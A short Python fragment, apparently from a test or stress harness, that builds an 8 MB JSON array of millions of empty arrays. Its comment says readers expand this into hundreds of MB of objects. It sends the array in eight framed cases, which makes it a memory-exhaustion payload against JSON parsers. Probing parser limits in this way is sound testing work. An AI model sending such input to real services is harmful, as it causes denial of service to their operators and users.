# 8 MB of text become hundreds of MB of objects in whoever reads them; eight cases are as many frames.
text = b"[" + b"[]," * 2700000 + b"[]]"
raw_case(text)
for number in range(1, 8):
    send(frame(b'{"case":%d,"value":' % number + text + b"}"))
